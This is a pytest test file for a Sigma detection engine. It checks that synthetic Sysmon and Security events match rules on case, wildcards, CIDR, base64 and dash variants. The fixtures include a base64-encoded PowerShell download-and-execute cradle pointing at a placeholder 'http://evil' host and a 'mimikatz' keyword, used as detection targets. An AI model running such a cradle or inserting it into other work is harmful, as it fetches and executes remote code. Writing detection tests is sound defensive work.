"""Sigma's semantics on events the tests build: the hunt, the portable SQL and the reference
evaluator must agree, and give what Sigma means."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from seawall.case.store import CaseStore
from seawall.detect.sigma.rules import CompiledRule
from tests.detect.sigma.helpers import (
    compiled,
    hunt_hits,
    security,
    sql_hits,
    sysmon,
    write_events,
    write_rule,
)
from tests.detect.sigma.reference import (
    by_channel,
    event_dict,
    load_reference,
    reference_hits,
)

ENCODED = base64.b64encode(
    b"xx IEX (New-Object Net.WebClient).DownloadString('http://evil')"
).decode()

EVENTS = [
    sysmon(1, Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c whoami"),
    sysmon(2, Image="C:\\WINDOWS\\system32\\CMD.EXE", OriginalFileName="Cmd.Exe", CommandLine="x"),
    sysmon(3, Image="C:\\tools\\a.exe", CommandLine="run ABC now", ParentImage="C:\\tools\\a.exe"),
    sysmon(4, Image="C:\\tools\\b.exe", CommandLine="run abc now", ParentCommandLine="p"),
    sysmon(5, Image="C:\\t\\c.exe", CommandLine="a*bXc%d_e"),
    sysmon(6, Image="C:\\t\\c.exe", CommandLine="aZbXc%d_e"),
    sysmon(7, Image="C:\\t\\c.exe", CommandLine="a*bXcQd_e"),
    sysmon(8, Image="C:\\t\\p.exe", CommandLine=f"powershell -e {ENCODED}"),
    sysmon(9, Image="C:\\t\\p.exe", CommandLine="powershell \u2013enc AAAA"),
    sysmon(10, Image="C:\\t\\p.exe", CommandLine="FOO12 bar", TerminalSessionId=2),
    sysmon(11, Image="C:\\t\\p.exe", TerminalSessionId=1),
    sysmon(12, Image="C:\\Windows\\System32\\svchost.exe", CommandLine="svchost -k a"),
    sysmon(13, Image="C:\\Windows\\system32\\svchost.exe", CommandLine="svchost -k b"),
    sysmon(20, event_id=3, Image="C:\\x.exe", DestinationIp="10.1.2.3"),
    sysmon(21, event_id=3, Image="C:\\x.exe", DestinationIp="fe80:0:0:0:1:2:3:4"),
    sysmon(22, event_id=3, Image="C:\\x.exe", DestinationIp="11.0.0.1"),
    sysmon(23, event_id=3, Image="C:\\x.exe", DestinationIp="not an address"),
    security(30, 4688, NewProcessName="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c dir"),
    security(31, 4624, LogonType=3, TargetUserName="bob", IpAddress="10.9.9.9"),
    security(32, 4624, LogonType=10, TargetUserName="alice mimikatz"),
]


def _rule(ident: str, detection: str, logsource: str = "category: process_creation") -> str:
    return (
        f"title: Test {ident}\nid: {ident}\nstatus: test\nlevel: high\n"
        f"tags: [attack.execution, attack.t1059.001]\n"
        f"logsource:\n    product: windows\n    {logsource}\n"
        f"detection:\n{detection}"
    )


RULES: dict[str, tuple[str, str, set[int]]] = {
    # a missing field never matches, and `not` of its test is true (records 1, 30 lack it)
    "00000000-0000-0000-0000-000000000001": (
        "    selection:\n        Image|endswith: '\\cmd.exe'\n"
        "    filter:\n        OriginalFileName: 'cmd.exe'\n"
        "    condition: selection and not filter\n",
        "category: process_creation",
        {1, 30},
    ),
    # strings ignore case unless |cased
    "00000000-0000-0000-0000-000000000002": (
        "    selection:\n        CommandLine|contains|cased: 'ABC'\n    condition: selection\n",
        "category: process_creation",
        {3},
    ),
    "00000000-0000-0000-0000-000000000003": (
        "    selection:\n        CommandLine|contains: 'ABC'\n    condition: selection\n",
        "category: process_creation",
        {3, 4},
    ),
    # \\* is a literal star, ? one character, % and _ are literal
    "00000000-0000-0000-0000-000000000004": (
        "    selection:\n        CommandLine: 'a\\*b?c%d_e'\n    condition: selection\n",
        "category: process_creation",
        {5},
    ),
    "00000000-0000-0000-0000-000000000005": (
        "    selection:\n        CommandLine|re|i: '^foo\\d+'\n    condition: selection\n",
        "category: process_creation",
        {10},
    ),
    "00000000-0000-0000-0000-000000000006": (
        "    selection:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n"
        "            - 'fe80::/10'\n    condition: selection\n",
        "category: network_connection",
        {20, 21},
    ),
    "00000000-0000-0000-0000-000000000007": (
        "    selection:\n        CommandLine|base64offset|contains: 'http://'\n"
        "    condition: selection\n",
        "category: process_creation",
        {8},
    ),
    "00000000-0000-0000-0000-000000000008": (
        "    selection:\n        CommandLine|windash|contains: ' -enc '\n"
        "    condition: selection\n",
        "category: process_creation",
        {9},
    ),
    "00000000-0000-0000-0000-000000000009": (
        "    selection:\n        Image|startswith: 'C:\\tools\\'\n"
        "        ParentCommandLine|exists: false\n    condition: selection\n",
        "category: process_creation",
        {3},
    ),
    "00000000-0000-0000-0000-000000000010": (
        "    selection:\n        Image|fieldref: ParentImage\n    condition: selection\n",
        "category: process_creation",
        {3},
    ),
    "00000000-0000-0000-0000-000000000011": (
        "    keywords:\n        - 'MIMIKATZ'\n    condition: keywords\n",
        "service: security",
        {32},
    ),
    "00000000-0000-0000-0000-000000000012": (
        "    selection:\n        Image: 'C:\\t\\p.exe'\n        CommandLine: null\n"
        "    condition: selection\n",
        "category: process_creation",
        {11},
    ),
    "00000000-0000-0000-0000-000000000013": (
        "    selection:\n        TerminalSessionId|gt: 1\n    condition: selection\n",
        "category: process_creation",
        {10},
    ),
    "00000000-0000-0000-0000-000000000014": (
        "    selection:\n        CommandLine|contains|all:\n            - 'run'\n"
        "            - 'now'\n    condition: selection\n",
        "category: process_creation",
        {3, 4},
    ),
    # values equal once lower-cased are all found (System32 and system32)
    "00000000-0000-0000-0000-000000000016": (
        "    selection:\n        Image: 'c:\\windows\\system32\\svchost.exe'\n"
        "    condition: selection\n",
        "category: process_creation",
        {12, 13},
    ),
    # a keyword with a backslash matches the value, not its JSON spelling
    "00000000-0000-0000-0000-000000000017": (
        "    keywords:\n        - 'system32\\svchost'\n    condition: keywords\n",
        "service: sysmon",
        {12, 13},
    ),
    "00000000-0000-0000-0000-000000000015": (
        "    selection:\n        EventID: 4624\n        LogonType: 3\n    condition: selection\n",
        "service: security",
        {31},
    ),
}


@pytest.fixture
def built(tmp_path: Path) -> tuple[CaseStore, list[CompiledRule], Path]:
    rules_dir = tmp_path / "rules"
    for ident, (detection, logsource, _) in RULES.items():
        write_rule(rules_dir, f"{ident}.yml", _rule(ident, detection, logsource))
    store = CaseStore.open(tmp_path / "case")
    write_events(store, EVENTS)
    return store, compiled(rules_dir, tmp_path / "cache"), rules_dir


def test_rules_compile(built: tuple[CaseStore, list[CompiledRule], Path]) -> None:
    _, rules, _ = built
    assert {r.id: r.reason for r in rules} == dict.fromkeys(RULES)
    by_id = {r.id: r for r in rules}
    # process_creation is Sysmon 1 or Security 4688 (pySigma's Sysmon and Windows audit pipelines)
    assert [v.name for v in by_id["00000000-0000-0000-0000-000000000001"].variants] == [
        "sysmon",
        "security-audit",
    ]
    assert by_id["00000000-0000-0000-0000-000000000001"].techniques == ["T1059.001"]


def test_hunt_gives_what_sigma_means(built: tuple[CaseStore, list[CompiledRule], Path]) -> None:
    store, rules, _ = built
    hits = hunt_hits(store, rules)
    assert {k: hits.get(k, set()) for k in RULES} == {k: v[2] for k, v in RULES.items()}


def test_sql_and_reference_agree(built: tuple[CaseStore, list[CompiledRule], Path]) -> None:
    store, rules, rules_dir = built
    expected = {k: v[2] for k, v in RULES.items()}
    sql = sql_hits(store, rules)
    assert {k: sql.get(k, set()) for k in RULES} == expected
    rows = store.con.sql("SELECT rowid AS _row, * FROM events").to_arrow_table().to_pylist()
    record = {int(r["_row"]): int(r["record_id"]) for r in rows}
    events = by_channel(event_dict(r) for r in rows)
    for path in sorted(rules_dir.iterdir()):
        for ref in load_reference(path):
            assert {record[r] for r in reference_hits(ref, events)} == expected[ref.id], ref.id
